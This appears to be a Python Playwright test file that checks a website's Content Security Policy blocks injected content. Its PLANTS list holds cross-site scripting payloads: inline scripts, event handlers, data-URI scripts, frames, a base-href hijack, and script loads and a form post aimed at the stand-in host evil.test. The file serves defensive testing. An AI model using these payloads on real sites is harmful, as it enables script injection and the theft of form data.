"""The content policy in a real browser: what somebody managed to plant in a page does not run, load, leave or frame."""

import urllib.request

from playwright.sync_api import Page, Route

from tests.browser.pages import Pages
from tests.browser.server import HOST, Server

PLANTS = (
    "<script>window.planted = 'inline script'</script>",
    """<img src="data:image/png;base64,x" onerror="window.planted = 'handler'">""",
    """<svg onload="window.planted = 'handler of a picture'"></svg>""",
    '<script src="http://evil.test/x.js"></script>',
    """<script src="data:text/javascript,window.planted='data'"></script>""",
    """<iframe srcdoc="<script>parent.planted = 'frame'</script>"></iframe>""",
    '<iframe src="http://evil.test/"></iframe>',
    """<object data="data:text/html,<script>parent.planted='object'</script>"></object>""",
    '<base href="http://evil.test/"><script src="x.js"></script>',
    '<form id="stolen" action="http://evil.test/take" method="post"><input name="a" value="b"></form>',
)
OURS = "content-security-policy"
REPORTED = (
    "Content Security Policy|ERR_BLOCKED_BY_CSP|Failed to load resource|evil.test|frame-ancestors|X-Frame-Options|more-private"
)
"""Also that a page which a test has answered for may not load from loopback."""


def plant(page: Page, server: Server, *plants: str, policy: bool = True) -> None:
    """The home page comes with that in its body, and with the headers that our site gave it."""
    asked = urllib.request.Request(f"http://127.0.0.1:{server.port}/", headers={"Host": f"{HOST}:{server.port}"})
    with urllib.request.urlopen(asked, timeout=30) as answer:
        headers = {key.lower(): value for key, value in answer.headers.items() if key.lower() != "content-length"}
        body = answer.read().decode()
    assert OURS in headers
    if not policy:
        del headers[OURS]
    body = body.replace("<main", "".join(plants) + "<main", 1)
    page.route(server.url + "/", lambda route: route.fulfill(status=200, headers=headers, body=body))


def evil(page: Page, reached: list[str], body: str = "window.planted = 'another site'") -> None:
    """The other site answers, should anybody ask it."""

    def answer(route: Route) -> None:
        reached.append(route.request.url)
        route.fulfill(body=body, content_type="text/html")

    page.route("http://evil.test/**", answer)


def test_what_is_planted_in_a_page_does_not_run_and_its_forms_go_nowhere_else(server: Server, pages: Pages) -> None:
    page, reached = pages("phone", None), list[str]()
    pages.allow(REPORTED)
    evil(page, reached)
    plant(page, server, *PLANTS)
    page.goto(server.url + "/")
    assert page.locator("#stolen").count() == 1, "it is planted"
    page.evaluate("document.getElementById('stolen').submit()")
    page.wait_for_load_state("load")
    assert page.evaluate("typeof window.planted") == "undefined"
    assert page.url == server.url + "/"
    assert reached == []


def test_it_would_run_without_the_policy(server: Server, pages: Pages) -> None:
    """The test of the test."""
    page = pages("phone", None)
    pages.allow(REPORTED)
    plant(page, server, PLANTS[0], policy=False)
    page.goto(server.url + "/")
    assert page.evaluate("window.planted") == "inline script"


def test_no_other_site_may_frame_a_page_and_no_page_may_use_sensors(server: Server, pages: Pages) -> None:
    page = pages("phone", "/")
    pages.allow(REPORTED)
    allowed = page.evaluate("document.featurePolicy ? document.featurePolicy.allowedFeatures() : []")
    assert not {"camera", "microphone", "geolocation", "payment", "usb"} & set(allowed)
    evil(page, [], f'<iframe src="{server.url}/"></iframe>')
    page.goto("http://evil.test/")
    page.wait_for_load_state("load")
    assert [frame.url for frame in page.frames[1:]] != [server.url + "/"]


def test_a_page_that_asks_another_site_is_reported(pages: Pages) -> None:
    page = pages("phone", None)
    evil(page, [])
    page.goto("http://evil.test/")
    assert "asked another site" in pages.complaints(server_was_killed=False)[0]
    pages.allow("another site")
